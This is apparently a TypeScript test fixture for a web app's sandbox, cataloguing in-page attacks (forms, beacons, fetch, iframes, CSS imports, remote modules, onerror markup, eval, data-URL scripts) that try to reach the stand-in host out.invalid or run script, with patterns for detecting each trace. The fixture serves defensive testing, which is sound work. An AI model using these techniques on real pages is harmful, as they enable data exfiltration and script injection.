/**
 * What a script, or text that became markup, would try in the window. Each runs in the page by itself, outside of
 * whatever the test may do, and leaves its own trace where nothing stands in its way: an address that the host wrote
 * down, or a word in `window.ran`, which only script of the attack's own can write.
 */
export interface Attack {
  readonly name: string;
  /** Its source goes into the page: it sees the page's world only. */
  readonly run: () => void;
  readonly trace: RegExp | 'script';
}

declare global {
  interface Window {
    ran: string[];
  }
}

export const attacks: readonly Attack[] = [
  {
    name: 'a link',
    run() {
      document.body.append(Object.assign(document.createElement('a'), { href: 'https://out.invalid/link', id: 'planted' }));
      document.getElementById('planted')!.click();
    },
    trace: /https:\/\/out\.invalid\/link/,
  },
  {
    name: 'a link to a new window',
    run: () => Object.assign(document.createElement('a'), { href: 'https://out.invalid/blank', target: '_blank' }).click(),
    trace: /out\.invalid\/blank/,
  },
  { name: 'window.open', run: () => void window.open('https://out.invalid/open'), trace: /out\.invalid\/open/ },
  {
    name: 'a javascript: link',
    run() {
      const link = document.createElement('a');
      link.href = 'javascript:void(window.ran.push("a javascript: link"))'; // oxlint-disable-line eslint/no-script-url
      document.body.append(link);
      link.click();
    },
    trace: 'script',
  },
  { name: 'an address', run: () => void (window.location.href = 'https://out.invalid/address'), trace: /https:\/\/out\.invalid\/address/ },
  {
    name: 'a form',
    run() {
      const form = Object.assign(document.createElement('form'), { action: 'https://out.invalid/form', method: 'post' });
      document.body.append(form);
      form.submit();
    },
    trace: /https:\/\/out\.invalid\/form/,
  },
  {
    name: 'a refresh',
    run: () =>
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=https://out.invalid/r' })),
    trace: /https:\/\/out\.invalid\/r/,
  },
  {
    name: 'a picture',
    run: () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://out.invalid/i.png' })),
    trace: /i\.png/,
  },
  {
    name: 'a frame',
    run: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://out.invalid/frame' })),
    trace: /out\.invalid\/frame/,
  },
  {
    name: 'an object',
    run: () => document.body.append(Object.assign(document.createElement('object'), { data: 'https://out.invalid/object' })),
    trace: /out\.invalid\/object/,
  },
  {
    name: 'a style with pictures',
    run() {
      const style = document.createElement('style');
      style.textContent = '@import url(https://out.invalid/s.css); body { background: url(https://out.invalid/s.png) }';
      document.head.append(style);
    },
    trace: /out\.invalid\/s\./,
  },
  {
    name: 'a style on an element',
    run: () => void (document.body.style.background = 'url(https://out.invalid/attribute.png)'),
    trace: /attribute\.png/,
  },
  {
    name: 'a style sheet',
    run: () =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://out.invalid/sheet.css' })),
    trace: /sheet\.css/,
  },
  {
    name: 'a hint to load early',
    run() {
      for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'icon', 'manifest'])
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: `https://out.invalid/${rel}` }));
    },
    trace: /preload/,
  },
  { name: 'fetch', run: () => void fetch('https://out.invalid/fetch').catch(() => {}), trace: /\/fetch/ },
  { name: 'a beacon', run: () => void navigator.sendBeacon('https://out.invalid/beacon', 'x'), trace: /\/beacon/ },
  { name: 'events from a server', run: () => void new EventSource('https://out.invalid/events'), trace: /\/events/ },
  {
    name: 'a module from elsewhere',
    run: () =>
      document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: 'https://out.invalid/module.js' })),
    trace: /module\.js/,
  },
  {
    name: 'markup with a handler',
    run: () => document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran.push(\'markup with a handler\')">'),
    trace: 'script',
  },
  {
    name: 'a frame of markup',
    run: () =>
      document.body.append(
        Object.assign(document.createElement('iframe'), { srcdoc: '<img src="x:" onerror="parent.ran.push(\'a frame of markup\')">' }),
      ),
    trace: 'script',
  },
  {
    name: 'an inline script',
    run() {
      const script = document.createElement('script');
      script.append('window.ran.push("an inline script")');
      document.body.append(script);
    },
    trace: 'script',
  },
  {
    name: 'a script of data',
    run() {
      const script = document.createElement('script');
      script.setAttribute('src', 'data:text/javascript,window.ran.push("a script of data")');
      document.body.append(script);
    },
    trace: 'script',
  },
  { name: 'text as code', run: () => void (0, eval)('window.ran.push("text as code")'), trace: 'script' }, // oxlint-disable-line eslint/no-eval
  {
    name: 'a handler as text',
    run() {
      document.body.setAttribute('onclick', 'window.ran.push("a handler as text")');
      document.body.click();
    },
    trace: 'script',
  },
  {
    name: 'a worker',
    run() {
      const source = URL.createObjectURL(new Blob(['postMessage(1)']));
      new Worker(source).addEventListener('message', () => void window.ran.push('a worker'));
    },
    trace: 'script',
  },
  {
    name: 'a download',
    run() {
      const href = URL.createObjectURL(new Blob(['x']));
      Object.assign(document.createElement('a'), { href, download: 'out.txt' }).click();
    },
    trace: /^download out/m,
  },
  {
    name: 'a file of the app as a page',
    run: () => void (window.location.href = 'https://lapwing.invalid/assets/other.html'),
    trace: /assets\/other|chrome-error/,
  },
];
